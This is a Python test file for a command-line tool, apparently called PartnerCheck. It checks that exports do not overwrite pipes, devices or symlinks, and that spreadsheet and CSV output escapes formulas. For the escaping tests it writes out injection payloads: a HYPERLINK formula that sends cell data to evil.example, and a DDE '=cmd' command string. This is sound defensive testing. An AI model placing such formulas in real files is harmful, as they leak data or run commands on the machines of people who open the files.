"""What is at the path a file is written to, when it is not a file PartnerCheck may replace:
a pipe, a device (root running `--out /dev/null` must not replace the device), a link (never
written through, never silently replaced), a read-only folder (one line naming the file, not
a traceback, and the name the user gave, not a hidden temporary). Also: a spreadsheet cell
that would be a live formula, and evidence read from something that is not a regular file."""

from __future__ import annotations

import dataclasses
import os
import shutil
import subprocess
import sys

import pytest

from partnercheck.domain.interchange import dumps

fifo_only = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")


@fifo_only
@pytest.mark.parametrize("command", ["export", "report", "package", "destruction-list"])
def test_a_pipe_at_the_output_path_is_not_replaced(run, store, new_assessment, tmp_path, command):  # type: ignore[no-untyped-def]
    assessment_id = str(store.create(new_assessment))
    target = tmp_path / {"export": "out.json", "report": "out.pdf", "package": "out.partnercheck", "destruction-list": "out.csv"}[command]
    os.mkfifo(target)
    args = [assessment_id] if command != "destruction-list" else []
    if command == "package":
        args.append("--no-encrypt")  # encrypted by default; a passphrase is not what this is about
    code, _, err = run(command, *args, "--out", str(target))
    assert code == 2 and str(target) in err and "not a regular file" in err, err
    assert target.is_fifo()


@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="only root can make a device node")
def test_a_device_at_the_output_path_is_not_replaced(run, store, new_assessment, tmp_path):  # type: ignore[no-untyped-def]
    import stat

    device = tmp_path / "null"
    os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    code, _, err = run("export", str(store.create(new_assessment)), "--out", str(device))
    assert code == 2 and str(device) in err
    assert stat.S_ISCHR(os.lstat(device).st_mode)


def test_a_link_at_the_output_path_is_neither_followed_nor_replaced(run, store, new_assessment, tmp_path):  # type: ignore[no-untyped-def]
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    link = tmp_path / "out.json"
    link.symlink_to(victim)
    code, _, err = run("export", str(store.create(new_assessment)), "--out", str(link))
    assert code == 2 and str(link) in err and "link" in err
    assert link.is_symlink() and victim.read_text(encoding="utf-8") == "keep me"


def _unprivileged() -> list[str]:
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    caps = "-dac_override,-dac_read_search"
    prefix = [setpriv or "setpriv", f"--bounding-set={caps}", f"--inh-caps={caps}"]
    if setpriv is None or subprocess.run([*prefix, "true"], capture_output=True).returncode != 0:
        pytest.skip("cannot drop root's permission override here")
    return prefix


@pytest.mark.skipif(os.name != "posix", reason="folder permissions are POSIX here")
@pytest.mark.parametrize("command", ["publish", "woo-export"])
def test_a_read_only_folder_is_one_line_naming_the_file(store, new_assessment, db_path, tmp_path, command):  # type: ignore[no-untyped-def]
    prefix = _unprivileged()
    store.create(new_assessment)
    store.close()
    folder = tmp_path / "read-only"
    folder.mkdir()
    target = folder / ("register.sqlite3" if command == "publish" else "woo")
    args = ["publish", "--out", str(target)] if command == "publish" else ["woo-export", "1", "--out", str(target)]
    folder.chmod(0o555)
    try:
        env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
        done = subprocess.run([*prefix, sys.executable, "-m", "partnercheck", *args, "--db", str(db_path)], capture_output=True, text=True, env=env)
    finally:
        folder.chmod(0o755)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert done.stderr.count("\n") == 1 and f"{target}: cannot be written" in done.stderr, done.stderr
    assert list(folder.iterdir()) == []


def test_a_party_name_starting_with_equals_is_text_in_the_spreadsheet(run, store, new_assessment, tmp_path):  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://evil.example/?"&B2,"Yangzhou")'
    store.create(dataclasses.replace(new_assessment, partnership=dataclasses.replace(new_assessment.partnership, counterpart=hostile)))
    target = tmp_path / "portefeuille.xlsx"
    code, _, err = run("portfolio", "--xlsx", str(target))
    assert code == 0, err
    sheet = load_workbook(target).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells), "a live formula in the council's spreadsheet"


@fifo_only
def test_a_pipe_attached_to_a_tie_is_refused_not_waited_on(store, new_assessment, tmp_path):  # type: ignore[no-untyped-def]
    from partnercheck.services import evidence

    store.create(new_assessment)
    fifo = tmp_path / "agreement.pdf"
    os.mkfifo(fifo)
    with pytest.raises(OSError) as caught:
        evidence.attach_file_to_tie(store, store.list_ties()[0].id, fifo)
    assert "not a regular file" in str(caught.value) and caught.value.filename == str(fifo)


def test_an_import_of_a_file_with_a_name_that_is_not_utf8_prints_it(run, new_assessment, tmp_path):  # type: ignore[no-untyped-def]
    if sys.platform == "win32":
        pytest.skip("Windows names are UTF-16")
    name = os.fsdecode(b"raad\xff.json")
    (tmp_path / name).write_text(dumps(new_assessment), encoding="utf-8")
    code, out, err = run("import", str(tmp_path / name))
    assert code == 0, err
    assert out.startswith("Imported raad") and "as assessment 1" in out


def test_the_csv_on_standard_output_runs_no_formula(run, store, new_assessment):  # type: ignore[no-untyped-def]
    import csv
    import io

    store.create(new_assessment)
    code, _, err = run("event", "add", "1", "--kind", "gift-received", "--date", "2026-03-01", "--text", "=cmd|' /C calc'!A0", "--people", "@SUM(1)")
    assert code == 0, err
    for command in (("events", "1", "--csv"), ("gifts", "--csv")):
        code, out, err = run(*command)
        assert code == 0, err
        (row,) = list(csv.DictReader(io.StringIO(out)))
        assert row["text"] == "'=cmd|' /C calc'!A0" and row["people"] == "'@SUM(1)", command


@fifo_only
def test_attach_tie_names_a_pipe_as_not_a_file(run, store, new_assessment, tmp_path):  # type: ignore[no-untyped-def]
    store.create(new_assessment)
    fifo = tmp_path / "agreement.pdf"
    os.mkfifo(fifo)
    code, _, err = run("attach-tie", "1", str(fifo))
    assert code == 2 and str(fifo) in err and "not a regular file" in err, err
